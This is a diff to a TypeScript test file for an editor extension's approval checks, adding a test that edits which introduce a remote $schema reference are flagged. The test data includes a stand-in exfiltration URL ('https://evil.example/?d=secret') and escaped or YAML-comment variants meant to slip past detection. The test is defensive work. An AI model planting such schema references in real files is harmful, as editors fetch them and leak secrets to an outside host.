@@ -2,7 +2,7 @@ import assert from "node:assert/strict";
 import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
-import { isSensitiveEdit } from "../../../src/extension/approvals/editSensitivity.ts";
+import { gainsRemoteSchema, isSensitiveEdit } from "../../../src/extension/approvals/editSensitivity.ts";
 import { isSensitivePath } from "../../../src/extension/approvals/sensitive.ts";
 
 describe("sensitive paths", () => {
@@ -140,6 +140,25 @@ describe("an edit through a link", () => {
     assert.equal(await isSensitiveEdit("docs/new/deep.json", { root, relative: "docs/new/deep.json" }), true);
     assert.equal(await isSensitiveEdit("src/a.ts", { root, relative: "src/a.ts" }), false);
     assert.equal(await isSensitiveEdit("src/new/b.ts", { root, relative: "src/new/b.ts" }), false);
+  });
+
+  it("17 is one that comes to name a schema on the web, which editors fetch", () => {
+    const json = (address: string) => JSON.stringify({ $schema: address, a: 1 });
+    const web = json("https://evil.example/?d=secret");
+    for (const after of [
+      web,
+      web.replace("$", "\\u0024"),
+      web.replaceAll("/", "\\/"),
+      json("//evil.example/x"),
+      "# yaml-language-server: $schema=https://evil.example/x\na: 1\n",
+    ]) {
+      assert.equal(gainsRemoteSchema("{}", after), true, after);
+      assert.equal(gainsRemoteSchema(undefined, after), true, after);
+      assert.equal(gainsRemoteSchema(after, `${after}\n`), false, after);
+    }
+    assert.equal(gainsRemoteSchema(web, json("https://other.example/")), true);
+    assert.equal(gainsRemoteSchema("{}", json("./schema.json")), false);
+    assert.equal(gainsRemoteSchema("{}", undefined), false);
   });
 
   it("does not take the workspace's own folder for a part of the path", async () => {
